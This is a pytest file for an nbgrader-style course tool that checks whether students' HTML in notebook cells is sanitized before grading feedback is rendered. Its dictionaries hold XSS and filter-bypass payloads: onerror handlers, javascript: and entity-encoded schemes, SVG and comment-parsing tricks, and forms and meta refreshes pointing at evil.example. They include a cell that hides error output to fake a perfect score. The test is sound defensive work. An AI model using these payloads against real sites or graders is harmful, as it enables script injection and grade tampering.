"""Students' HTML in markdown and raw cells: what reaches feedback and formgrader is harmless."""
import glob
import json
import shutil
import subprocess
from html.parser import HTMLParser

import pytest
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from rnnquiz.model.clean import clean_notebook
from rnnquiz.model.untrusted_html import CELL_CHARS, NOTEBOOK_CHARS, TAGS, Budget, clean_source
from support import ROOT

# The red team's cell: a script, an image whose error handler runs, a style
# sheet hiding every error output, and a score of its own.
ATTACK = """Minha resposta: tudo certo!

<script>document.body.setAttribute("data-rnnquiz-xss", "script")</script>
<img src=x onerror="document.body.setAttribute('data-rnnquiz-xss', 'img')">
<style>/* rnnquiz-red-team */ .output_error, .output_stderr, .output_area pre { display: none !important; }</style>

<h1 style="color:green">Score 18/18</h1>
"""

ATTACKS = {
    "red_team": ATTACK,
    "inline_script": "inline <script>alert(1)</script> text",
    "upper_case": "<SCRIPT>alert(1)</SCRIPT>",
    "joined_by_removal": "<scr<script></script>ipt>alert(1)</scr</script>ipt>",
    "svg": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>after',
    "math": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "iframe": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "form": "<form action=https://evil.example><input name=p><button>go</button></form>",
    "object_embed": "<object data=x></object><embed src=x>",
    "meta_link_base": "<meta http-equiv=refresh content='0;url=https://evil.example'>"
                      "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
    "details_ontoggle": "<details open ontoggle=alert(1)>s</details>",
    "javascript_href": '<a href="javascript:alert(1)" onclick="x">hi</a>',
    "entity_in_scheme": '<a href="java&#x09;script:alert(1)">hi</a>',
    "colon_entity": "<a href=javascript&colon;alert(1)>c</a>",
    "data_url": '<a href="data:text/html,<script>alert(1)</script>">d</a>',
    "style_attribute": '<div style="position:fixed;top:0">spoof</div>',
    "markdown_link": "[click](javascript:alert(1))",
    "markdown_reference": "[x]\n\n[x]: javascript:alert(1)",
    "markdown_autolink": "<javascript:alert(2)>",
    "markdown_image": "![pixel](https://tracker.example/p.png)",
    "comment_differential": "<!--><img src=x onerror=alert(1)>-->",
    "open_comment": "<!--\nhides the rest of the page",
    "closing_the_page": "</div></div></div>outside",
    "backtick_in_attribute": '<img src="`" onerror=alert(1) x="`">',
    "blockquote": "> <script>alert(1)</script>\n> quoted",
    "list_item": "- <img src=x onerror=alert(1)>\n- item",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
}

HARMLESS = {
    "plain": "Plain *markdown* with a < b, `x<y`, $h_{t-1} < 1$ and [a link](https://d2l.ai/).",
    "latex": "$$\\mathbf{H}_t = \\tanh(\\mathbf{X}_t \\mathbf{W}_{xh} + b)$$ and $0 < \\rho < 1$",
    "code_spans": "`<script>` and `` `<img onerror=x>` `` stay code",
    "fenced": "```python\nx = '<script>alert(1)</script>'\n```",
    "formatting_tags": "<b>bold</b>, <i>it</i>, <em>em</em>, <strong>s</strong>, <code>c</code>, H<sub>2</sub>O, "
                       "x<sup>2</sup><br>\n\n<p>para</p>\n\n<pre>pre</pre>\n\n<ul><li>a</li></ul>\n\n<ol><li>b</li></ol>",
    "table_tags": "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>",
    "web_link": '<a href="https://x.org" title="t">ok</a> and <a href="#sec">here</a>',
    "markdown_table": "| a | b |\n|:--|--:|\n| 1 | 2 |",
    "task_list": "- [ ] to do\n- [x] done",
    "headings": "# Title\n\n## Sub `code`",
    "comment": "<!-- a note to myself --> text",
    "mermaid": "```mermaid\ngraph TD; A-->B\n```",
    "escaped": "&lt;script&gt; is how you write it",
}


class _Tags(HTMLParser):
    def __init__(self, markup):
        super().__init__()
        self.tags = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def assert_harmless(rendered: str):
    """Only allowed tags; no event handler, style but alignment, or scheme but the web's."""
    for tag, attrs in _Tags(rendered).tags:
        assert tag in TAGS, (tag, rendered)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert name != "style" or value.startswith("text-align:"), (tag, value)
            if name == "href":
                assert value.startswith(("https:", "http:", "mailto:", "#")), value


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attacks_are_removed_and_the_cell_says_so(name):
    out, removed = clean_source(ATTACKS[name], "markdown", "en")
    assert removed and out != ATTACKS[name]
    rendered = markdown2html_mistune(out)
    assert_harmless(rendered)
    assert "rnnquiz removed HTML from this cell" in rendered
    for tag in ("<script", "<style", "<img", "<svg", "<iframe"):
        assert tag not in rendered.lower(), tag  # as text (escaped, or a link's words) they may stay
    assert clean_source(out, "markdown", "en") == (out, [])  # a second pass finds nothing more


def test_the_note_names_what_was_removed_in_the_notebook_language():
    out, removed = clean_source(ATTACK, "markdown", "pt")
    assert removed == ["<script>", "<img>", "<style>", "style="]
    assert out.endswith("*\\[rnnquiz removeu HTML desta célula: &lt;script&gt;, &lt;img&gt;, &lt;style&gt;, "
                        "atributo style\\]*")
    assert "<p><em>[rnnquiz removed HTML from this cell: &lt;script&gt;, &lt;img&gt;, &lt;style&gt;, style attribute]" \
           "</em></p>" in markdown2html_mistune(clean_source(ATTACK, "markdown", "en")[0])
    both, _ = clean_source(ATTACK, "markdown", None)  # language unknown: both, pt-BR first
    assert "removeu HTML" in both and both.index("removeu") < both.index("removed HTML")
    # the student's own words stay, as markdown
    assert out.startswith("Minha resposta: tudo certo!") and "<h1>Score 18/18</h1>" in out


def test_markdown_links_and_images_are_edited_not_dropped():
    out, removed = clean_source("[click](javascript:alert(1)) and ![px](https://tracker.example/p.png)", "markdown")
    assert out.startswith("[click]\\(javascript:alert(1)) and [px](https://tracker.example/p.png)")
    assert removed == ["javascript:", "<img>"]


def test_html_only_a_browser_reads_shows_the_cell_as_code():
    out, removed = clean_source(ATTACKS["comment_differential"], "markdown", "en")
    assert out.startswith("```\n<!--><img src=x onerror=alert(1)>-->\n```")
    assert "shown as code" in out and removed == ["<>"]


@pytest.mark.parametrize("name", sorted(HARMLESS))
def test_harmless_markdown_is_unchanged_byte_for_byte(name):
    assert clean_source(HARMLESS[name], "markdown", "pt") == (HARMLESS[name], [])


def test_the_course_notebooks_own_markdown_is_unchanged():
    cells = [c for path in glob.glob(str(ROOT / "*" / "*" / "*.ipynb"))
             for c in json.loads(open(path).read())["cells"] if c["cell_type"] != "code"]
    assert len(cells) > 50
    for cell in cells:
        source = "".join(cell["source"])
        assert clean_source(source, cell["cell_type"], "pt") == (source, [])


def test_raw_cells_are_cleaned_as_html():
    out, removed = clean_source("<p onclick=x>raw</p> a < b <script>x</script>", "raw", "en")
    assert removed == ["onclick=", "<script>"]
    assert out == "<p>raw</p> a < b \n\n<div><em>[rnnquiz removed HTML from this cell: onclick attribute, " \
                  "&lt;script&gt;]</em></div>"
    assert clean_source("a < b & c", "raw") == ("a < b & c", [])


def test_large_cells_are_shown_as_text_unread_within_a_notebook_budget():
    big = "<b>x</b>\n" * (CELL_CHARS // 9 + 1)
    out, removed = clean_source(big, "markdown", "en")
    assert out.startswith("```\n<b>x</b>") and "did not check this cell's HTML" in out and removed
    budget = Budget()
    cell = "<b>x</b>\n" * (CELL_CHARS // 10)
    outs = [clean_source(cell, "markdown", "en", budget)[0] for _ in range(NOTEBOOK_CHARS // len(cell) + 1)]
    assert outs[0] == cell and outs[-1].startswith("```")


def test_clean_notebook_cleans_markdown_and_raw_cells_never_code():
    code = 'html = "<script>alert(1)</script>"'
    nb = {"cells": [{"cell_type": "markdown", "metadata": {}, "source": ATTACK},
                    {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": "<img src=x onerror=y>"},
                    {"cell_type": "code", "metadata": {}, "source": code, "outputs": []}],
          "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    cells = clean_notebook(nb, lang="pt")["cells"]
    assert "<script" not in cells[0]["source"] and "removeu HTML" in cells[0]["source"]
    assert "onerror" not in cells[1]["source"] and "removeu HTML" in cells[1]["source"]
    assert cells[2]["source"] == code


# --- end to end: nbgrader's real cycle, then the feedback in a browser ------------------

AID = "rnn_from_scratch"
STUDENT = "bruno_erros"  # the demo's student whose answers fail some questions
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """A course where the red team's cell and a raw script cell are submitted and graded."""
    from rnnquiz.commands.cycle import Cycle
    from rnnquiz.commands.demo import student_work
    from support import assignment

    cycle = Cycle(tmp_path_factory.mktemp("course"), ROOT)
    cycle.setup([AID])
    nb = student_work(assignment(AID), ROOT)[STUDENT]
    nb["cells"][1:1] = [{"cell_type": "markdown", "metadata": {}, "source": ATTACK},
                        {"cell_type": "raw", "metadata": {},
                         "source": "<script>document.title = 'raw-xss'</script><b>raw bold</b>"}]
    cycle.fetch_and_submit(STUDENT, AID, nb)
    cycle.grade([AID])
    return cycle


@pytest.mark.slow
def test_feedback_has_none_of_the_students_html_and_keeps_the_errors(graded):
    feedback = (graded.course / "feedback" / STUDENT / AID / f"{AID}.html").read_text()
    assert "data-rnnquiz-xss" not in feedback and "raw-xss" not in feedback    # no script of the student's
    assert "onerror" not in feedback and "rnnquiz-red-team" not in feedback    # no handler, no style sheet
    assert 'style="color:green"' not in feedback
    # the failed questions' error outputs are all there (nothing to hide them with)
    assert feedback.count("output_error") >= 2 and feedback.count("Provável erro") >= 2
    assert "rnnquiz removeu HTML desta célula: &lt;script&gt;, &lt;img&gt;, &lt;style&gt;, atributo style" in feedback
    assert "rnnquiz removeu HTML desta célula: &lt;script&gt;]" in feedback     # the raw cell's note
    # formgrader shows the autograded notebook: cleaned the same way
    autograded = (graded.course / "autograded" / STUDENT / AID / f"{AID}.ipynb").read_text()
    assert "data-rnnquiz-xss" not in autograded and "onerror" not in autograded


def dom(path) -> str:
    """The page as headless chromium leaves it once loaded (scripts run)."""
    done = subprocess.run([CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
                           "--no-first-run", "--disable-background-networking", "--disable-component-update",
                           "--disable-sync", f"--user-data-dir={path.parent / 'chromium-profile'}",
                           "--dump-dom", path.as_uri()], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    return done.stdout


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed: the rendered feedback is not checked")
def test_in_a_browser_no_student_script_runs(graded, tmp_path):
    from nbconvert import HTMLExporter
    from nbformat.v4 import new_markdown_cell, new_notebook

    # the control: the same cell rendered unsanitized does run in this browser
    unsanitized = tmp_path / "unsanitized.html"
    unsanitized.write_text(HTMLExporter().from_notebook_node(new_notebook(cells=[new_markdown_cell(ATTACK)]))[0])
    assert "data-rnnquiz-xss" in dom(unsanitized)
    page = dom(graded.course / "feedback" / STUDENT / AID / f"{AID}.html")
    assert "data-rnnquiz-xss" not in page and "raw-xss" not in page
    assert "rnnquiz removeu HTML desta célula" in page and page.count("output_error") >= 2
